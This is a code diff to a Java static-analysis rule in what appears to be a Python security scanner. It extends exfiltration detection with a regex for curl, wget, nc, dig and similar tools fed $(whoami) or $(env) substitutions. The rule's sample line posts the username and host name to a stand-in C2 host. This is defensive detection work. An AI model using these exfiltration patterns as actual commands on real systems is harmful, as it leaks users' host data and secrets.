@@ -14,6 +14,7 @@ import dev.kingsnake.spi.python.Expr;
 import java.util.EnumSet;
 import java.util.HashSet;
 import java.util.Set;
+import java.util.regex.Pattern;
 
 /**
  * Source and sink in one function: host facts, the environment or captured user data collected, and a
@@ -28,10 +29,19 @@ public final class CollectedDataSendRule implements PythonFileRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
             "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
             "Telemetry and crash reporters send a host name with their reports; they usually build the report "
-                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported.");
+                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported. Shell "
+                    + "commands are reported when a network tool's own command line holds a host-data substitution "
+                    + "such as $(whoami) or $(env | base64).");
 
     private static final Set<Capability> SOURCES = EnumSet.of(Capability.FINGERPRINT, Capability.ENV_ALL,
             Capability.CLIPBOARD_READ, Capability.SCREENSHOT, Capability.KEYLOG);
+
+    /**
+     * curl/wget/nc/nslookup/dig/ping given the output of a host-data command ($(env), `whoami`, $(hostname),
+     * $(cat ...)) on its own command line: the shell collects and sends in one go.
+     */
+    private static final Pattern SHELL_SEND = Pattern.compile("(?i)\\b(curl|wget|nc|ncat|nslookup|dig|ping|host)"
+            + "\\b[^\\n;|&]*(\\$\\(|`)\\s*(env|printenv|whoami|hostname|id|uname|cat|ls|pwd|ifconfig|ip|set)\\b");
 
     @Override
     public RuleInfo info() {
@@ -41,6 +51,14 @@ public final class CollectedDataSendRule implements PythonFileRule {
     @Override
     public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
         CodeFacts facts = CodeFacts.of(file);
+        for (CodeFacts.CallFact c : facts.calls()) {
+            if (c.is(Capability.PROCESS)
+                    && facts.textsWithin(c.call()).stream().anyMatch(t -> SHELL_SEND.matcher(t).find())) {
+                sink.report(Location.of(file, c.call()),
+                        "a shell command collects host data with command substitution and sends it with a network tool",
+                        file.line(c.call().line()), Severity.HIGH, Confidence.HIGH);
+            }
+        }
         if (!facts.fileCaps().contains(Capability.NETWORK)) {
             return;
         }
@@ -56,10 +74,9 @@ public final class CollectedDataSendRule implements PythonFileRule {
             String how;
             if (c.is(Capability.SEND)) {
                 how = "sends";
-            } else if (c.is(Capability.DNS) && c.call().arg(0).isPresent()
-                    && DnsExfilRule.dataUnderFixedDomain(facts, c.call().arg(0).get())) {
+            } else if (c.is(Capability.DNS) && DnsExfilRule.lookedUpName(facts, c).isPresent()) {
                 how = "encodes into a DNS lookup";
-            } else if (c.is(Capability.FETCH) && builtAtRunTime(facts, c.call())) {
+            } else if (c.is(Capability.FETCH) && builtAtRunTime(facts, c.call(), c.scope())) {
                 how = "puts into a request URL";
             } else {
                 continue;
@@ -71,15 +88,38 @@ public final class CollectedDataSendRule implements PythonFileRule {
         }
     }
 
+    /** True when a request in this scope carries data in a URL assembled at run time. */
+    public static boolean requestsBuiltUrl(CodeFacts facts, int scope) {
+        for (CodeFacts.CallFact c : facts.calls()) {
+            if (c.scope() == scope && c.is(Capability.FETCH) && builtAtRunTime(facts, c.call(), scope)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
     /**
      * True when the first argument is assembled right there from constant parts and other values (a bare
      * variable is not enough: resolving or fetching a name held in a variable is what every client does).
      */
-    static boolean builtAtRunTime(CodeFacts facts, Expr.Call call) {
+    public static boolean builtAtRunTime(CodeFacts facts, Expr.Call call, int scope) {
         Expr a = call.arg(0).orElse(call.keyword("url").orElse(call.keyword("host").orElse(null)));
         if (a == null) {
             return false;
         }
+        if (a instanceof Expr.Name n) {
+            // url = f"https://...?h={host}"; urlopen(url) — assembled in this function just before
+            for (Expr v : facts.assignedIn(scope, n.id())) {
+                if (assembled(facts, v)) {
+                    return true;
+                }
+            }
+            return false;
+        }
+        return assembled(facts, a);
+    }
+
+    private static boolean assembled(CodeFacts facts, Expr a) {
         if (a instanceof Expr.FString || a instanceof Expr.BinOp) {
             return facts.file().constant(a).isEmpty();
         }
